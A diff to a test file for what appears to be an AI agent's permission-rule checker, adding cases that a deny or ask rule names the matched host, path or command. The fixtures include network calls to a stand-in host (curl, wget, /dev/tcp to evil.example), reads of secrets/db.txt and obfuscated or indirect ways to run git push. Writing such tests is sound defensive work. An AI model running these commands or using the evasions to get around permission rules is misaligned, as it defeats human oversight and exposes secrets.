@@ -1,5 +1,6 @@
 /** A denial or an ask by a rule on places or hosts says what of the call met it; what meets no rule is not told so. */
 import { afterAll, beforeAll, expect, test } from "vitest";
+import type { JsonObject } from "../contract/action.ts";
 import { runGitScript } from "../testing/git-script.ts";
 import { bash, type Project, project } from "../testing/index.ts";
 
@@ -34,6 +35,9 @@ test.each([
   [EDIT, "rm -r infra", "infra"],
   [EDIT, "echo x > infra/x.tf", "infra/x.tf"],
   [HOST, "curl https://evil.example/x", "evil.example"],
+  [HOST, "cat < /dev/tcp/evil.example/80", "evil.example"],
+  [READ, "nano secrets/db.txt", "secrets/db.txt"],
+  [EDIT, "cp src/a.ts infra", "infra"],
   [HOST, "frobnicate --to evil.example", "evil.example"],
   // Also in a word that a known program does nothing known with, and in what is set for it.
   [HOST, "pip install https://evil.example/x.whl", "evil.example"],
@@ -62,6 +66,13 @@ test.each([
   [EDIT, "git add --chmod=+x infra/main.tf", "infra/main.tf"],
   ["WebFetch(domain:evil.example)", `node -e 'fetch("https://evil.example")'`, "evil.example"],
   ["Bash(git push:*)", `node -e 'spawn("git", ["push"])'`, "git push"],
+  // In a document that is fed to a program, in what an editor is told, in a command that starts another of this name.
+  [HOST, "wget -i - <<< https://evil.example", "evil.example"],
+  [READ, "sqlite3 x.db <<< \"select readfile('secrets/db.txt')\"", "secrets/db.txt"],
+  [EDIT, "vim -es -c 'mksession! infra/main.tf' -c q", "infra/main.tf"],
+  ["Bash(git push:*)", "vim -es -c 'r !git push' -c q", "git push"],
+  ["Bash(git push:*)", "git subtree push --prefix=a origin b", "git push"],
+  ["Bash(npm publish:*)", "corepack npm publish", "npm publish"],
 ])("%s is mentioned: %s", async (rule, command, met) => {
   for (const list of ["deny", "ask"])
     expect(await reason(rule, bash(command), list)).toContain(
@@ -74,6 +85,7 @@ test.each([
   [READ, "grep -rn foo ."],
   ["Bash(curl:*)", "$(command -v curl) x"],
   ["Bash(rm -rf:*)", "rm $X build"],
+  ["Bash(git push:*)", 'git "$(printf pu%s sh)"'],
 ])("%s could forbid a part: %s", async (rule, command) => {
   expect(await reason(rule, bash(command))).toContain(`The rule ${rule} could forbid a part of this`);
 });
@@ -84,7 +96,14 @@ test("of every tool", async () => {
   expect(await reason(EDIT, { tool: "Write", input: { file_path: here.at("infra/x.tf"), content: "" } })).toContain(
     "forbids this: infra/x.tf.",
   );
-  expect(await reason(READ, { tool: "mcp__fs__read", input: { path } })).toContain("is mentioned");
+  for (const input of [{ path }, { path: "@secrets/db.txt" }, { files: { [path]: true } }])
+    expect(await reason(READ, { tool: "mcp__fs__read", input })).toContain("is mentioned");
+  const run = (input: JsonObject) => reason("Bash(git push:*)", { tool: "mcp__x__run", input });
+  expect(await run({ program: "git", args: ["push"] })).toContain("is mentioned");
+  expect(await run({ program: "git", message: "push" })).not.toContain("is mentioned");
+  expect(await reason(READ, { tool: "PowerShell", input: { command: "Get-Content secrets\\db.txt" } })).toContain(
+    "is mentioned",
+  );
   expect(await reason(HOST, { tool: "WebFetch", input: { url: "https://evil.example/", prompt: "" } })).toContain(
     "forbids this: evil.example.",
   );
